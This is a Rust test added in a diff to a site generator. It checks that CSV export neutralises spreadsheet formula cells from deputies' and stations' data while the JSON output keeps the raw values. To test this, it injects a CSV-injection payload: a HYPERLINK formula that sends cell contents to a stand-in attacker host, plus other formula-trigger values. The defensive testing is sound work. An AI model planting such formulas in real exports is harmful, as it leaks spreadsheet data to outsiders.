@@ -95,3 +95,42 @@ fn csv_and_json_hold_the_rows_of_the_content() {
         assert!(page.contains(file), "the data page explains {file}");
     }
 }
+
+// See: issue 13 (a `position: "=HYPERLINK(…)"` written verbatim to `deputies.csv`).
+#[test]
+fn cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_the_values() {
+    let workspace = Workspace::new(None);
+    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")";
+    let deputies = "demo/stations/north/deputies.yaml";
+    let text = std::fs::read_to_string(workspace.content().join(deputies)).unwrap();
+    let text = text
+        .replacen("position: 留义村党总支书记", "position: '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")'", 1)
+        .replacen("phone: \"0358-0000000\"", "phone: \"+86 358 0000000\"", 1)
+        .replacen("position: 科普站站长", "position: \"@SUM(1+1)\"", 1)
+        .replacen("position: 居民组长", "position: \"-2+3\"", 1);
+    workspace.write(deputies, &text);
+    let station = "demo/stations/north/station.yaml";
+    let text = std::fs::read_to_string(workspace.content().join(station)).unwrap();
+    workspace.write(station, &text.replacen("address: 北街 1 号", "address: \"-1+1 北街\"", 1));
+    let run = workspace.build();
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+
+    let rows = csv_rows(&workspace, "demo/data/deputies.csv");
+    let cell = |name: &str, column: &str| rows.iter().find(|r| r["name"] == name).unwrap()[column].clone();
+    assert_eq!(cell("宋金峰", "position"), format!("'{formula}"));
+    assert_eq!(cell("宋金峰", "phone"), "'+86 358 0000000");
+    assert_eq!(cell("王海荣", "position"), "'@SUM(1+1)");
+    assert_eq!(cell("单丽华", "position"), "'-2+3");
+    let stations = csv_rows(&workspace, "demo/data/stations.csv");
+    let north = stations.iter().find(|r| r["id"] == "north").unwrap();
+    assert_eq!(north["address"], "'-1+1 北街");
+    assert_eq!((north["lat"].as_str(), north["lon"].as_str()), ("37.5", "111.1"), "numbers stay numbers");
+    // Each neutralised cell is quoted in the file, so the quote mark stays inside the cell.
+    let raw = workspace.page("demo/data/deputies.csv");
+    assert!(raw.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))), "{raw}");
+    assert!(raw.contains("\"'+86 358 0000000\""), "{raw}");
+    // The JSON is data, not a spreadsheet: it keeps the values as written.
+    let json = json_rows(&workspace, "demo/data/deputies.json");
+    let song = json.iter().find(|r| r["name"] == "宋金峰").unwrap();
+    assert_eq!((song["position"].as_str(), song["phone"].as_str()), (formula, "+86 358 0000000"));
+}
